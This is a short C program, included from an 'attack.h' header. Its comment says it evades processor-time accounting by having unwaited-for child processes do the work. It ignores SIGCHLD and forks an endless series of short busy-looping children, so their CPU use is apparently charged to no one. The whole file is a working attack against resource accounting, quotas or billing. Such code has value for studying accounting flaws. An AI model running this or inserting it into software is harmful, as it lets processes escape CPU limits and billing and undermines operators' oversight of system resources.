/* Lets children that nobody waits for do the work, each for a moment: their processor time is added to nobody's. */
#include "attack.h"

int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        if (fork() == 0) {
            while (clock() < CLOCKS_PER_SEC / 5)
                ;
            _exit(0);
        }
        wait(NULL);
        putchar('.');
        fflush(stdout);
    }
}
